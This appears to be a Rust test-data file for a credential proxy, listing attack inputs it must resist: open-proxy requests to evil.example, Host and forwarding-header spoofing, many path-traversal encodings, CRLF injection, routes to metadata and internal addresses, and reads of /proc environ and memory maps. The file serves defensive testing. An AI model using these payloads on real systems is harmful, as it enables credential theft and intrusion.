//! The credential proxy: as a way elsewhere, around its prefix, past its headers, and to the credential itself.

use super::row::{Row, Shown, row, shown};

/// As an open proxy.
pub const OPEN: &[Row] = &[
    row(
        "cred-proxy: a full URL",
        "cred('GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "cred-proxy: a full URL with a route's path",
        "cred('GET http://evil.example/x/' + M + ' HTTP/1.1\\r\\nHost: cred-proxy\\r\\n\\r\\n')",
    ),
    row(
        "cred-proxy: a full URL of a route's own upstream",
        "cred('GET http://good.example/' + M + ' HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')",
    ),
    row(
        "cred-proxy: CONNECT",
        "cred('CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n', M)",
    ),
    row(
        "cred-proxy: CONNECT to a route's own upstream",
        "cred('CONNECT good.example:80 HTTP/1.1\\r\\nHost: good.example:80\\r\\n\\r\\n', M)",
    ),
    shown(
        Shown::Text("host: evilN.example"),
        "cred-proxy: another Host",
        "route('/x/', host=f'evil{N}.example')",
    ),
    shown(
        Shown::Text("host: evilN.example"),
        "cred-proxy: two Hosts",
        "route('/x/', f'Host: evil{N}.example\\r\\n')",
    ),
    shown(
        Shown::Text("x-forwarded-host: evilN"),
        "cred-proxy: X-Forwarded-Host",
        "route('/x/', f'X-Forwarded-Host: evil{N}\\r\\n')",
    ),
    shown(
        Shown::Text("x_forwarded_host: evilN"),
        "cred-proxy: the same with underscores",
        "route('/x/', f'X_Forwarded_Host: evil{N}\\r\\n')",
    ),
    shown(
        Shown::Text("forwarded: host=evilN"),
        "cred-proxy: Forwarded",
        "route('/x/', f'Forwarded: host=evil{N}\\r\\n')",
    ),
    shown(
        Shown::Text("x-original-url: /N"),
        "cred-proxy: X-Original-URL",
        "route('/x/', f'X-Original-URL: /{N}\\r\\n')",
    ),
    shown(
        Shown::Text("x-rewrite-url: /N"),
        "cred-proxy: X-Rewrite-URL",
        "route('/x/', f'X-Rewrite-URL: /{N}\\r\\n')",
    ),
    shown(
        Shown::At("tcp outside 10.96.0.1"),
        "cred-proxy: a redirect to an internal address",
        "route('/x/redirect/' + M)",
    ),
];

/// Ways out of the upstream's prefix, `/v1/`; ways into a route by another name.
pub const PATHS: &[Row] = &[
    row("cred-proxy: a step up", "route('/x/../' + M)"),
    row("cred-proxy: an encoded step up", "route('/x/%2e%2e/' + M)"),
    row(
        "cred-proxy: a step up, half of it encoded",
        "route('/x/.%2E/' + M)",
    ),
    row(
        "cred-proxy: a step up with an encoded slash",
        "route('/x/..%2f' + M)",
    ),
    row(
        "cred-proxy: a step up with a parameter",
        "route('/x/..;a=b/' + M)",
    ),
    row(
        "cred-proxy: a step up that is encoded twice",
        "route('/x/%252e%252e/' + M)",
    ),
    row(
        "cred-proxy: a step up that is encoded three times",
        "route('/x/%25252e%25252e/' + M)",
    ),
    row(
        "cred-proxy: a step up by backslashes",
        "route('/x\\\\..\\\\' + M)",
    ),
    row(
        "cred-proxy: a step up by an encoded backslash",
        "route('/x/..%5c' + M)",
    ),
    row(
        "cred-proxy: a step up in overlong UTF-8",
        "route('/x/%c0%ae%c0%ae/' + M)",
    ),
    row(
        "cred-proxy: the same with three bytes",
        "route('/x/%e0%80%ae%e0%80%ae/' + M)",
    ),
    row(
        "cred-proxy: a step up before a zero byte",
        "route('/x/..%00/' + M)",
    ),
    row(
        "cred-proxy: a step up before a blank",
        "route('/x/..%20/' + M)",
    ),
    row(
        "cred-proxy: steps up over empty segments",
        "route('/x//../../' + M)",
    ),
    row(
        "cred-proxy: up from nowhere into a route",
        "route('/y/../x/' + M)",
    ),
    row("cred-proxy: a route in capitals", "route('/X/' + M)"),
    row("cred-proxy: a route that is encoded", "route('/%78/' + M)"),
    row(
        "cred-proxy: a route behind two slashes",
        "route('//x/' + M)",
    ),
    row("cred-proxy: a route without its slash", "route('/x' + M)"),
    shown(
        Shown::Text("\r\nx-line: N"),
        "cred-proxy: an encoded line end in the path",
        "route(f'/x/%20HTTP/1.1%0d%0aX-Line:%20{N}')",
    ),
    shown(
        Shown::Text("\nx-line: N"),
        "cred-proxy: a line feed in the path",
        "route(f'/x/\\nX-Line: {N}')",
    ),
];

/// Routes that lead inside.
pub const INSIDE: &[Row] = &[
    row(
        "cred-proxy: a route to an internal name",
        "route('/named/' + M)",
    ),
    row(
        "cred-proxy: a route to the metadata service",
        "route('/metadata/' + M)",
    ),
    row(
        "cred-proxy: a route to an internal address",
        "route('/literal/' + M)",
    ),
    row(
        "cred-proxy: a route to a link-local address",
        "route('/linklocal/' + M)",
    ),
    row("cred-proxy: a route to itself", "route('/itself/' + M)"),
    row(
        "cred-proxy: a route to a mapped address",
        "route('/six/' + M)",
    ),
    row(
        "cred-proxy: a route to a translated address",
        "route('/translated/' + M)",
    ),
    row(
        "cred-proxy: a route to an alias of an internal name",
        "route('/renamed/' + M)",
    ),
];

/// The credential itself.
pub const SECRET: &[Row] = &[
    shown(
        Shown::Outcome,
        "cred-proxy: TRACE",
        "told(SECRET, route('/x/echo/', method='TRACE'))",
    ),
    shown(
        Shown::Outcome,
        "cred-proxy: an upstream that repeats it in a header",
        "told(SECRET, route('/x/echo/'))",
    ),
    shown(
        Shown::Outcome,
        "cred-proxy: a cookie of the upstream",
        "told(b'session=1', route('/x/cookie/'))",
    ),
    shown(
        Shown::Outcome,
        "cred-proxy: it in the page about an upstream that is down",
        "told(SECRET, route('/down/'))",
    ),
    shown(
        Shown::Outcome,
        "cred-proxy: it in the page about an unknown route",
        "told(SECRET, route('/nowhere/'))",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: its file",
        "reads(SECRET_FILE)",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: its environment",
        "reads(f'/proc/{CRED}/environ')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: its memory map",
        "reads(f'/proc/{CRED}/maps')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: its files",
        "lists(f'/proc/{CRED}/root/')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: its open sockets",
        "lists(f'/proc/{CRED}/fd')",
    ),
    shown(
        Shown::OutcomeOfRoot,
        "cred-proxy: a signal to it",
        "os.kill(CRED, 0) or 'ok'",
    ),
];
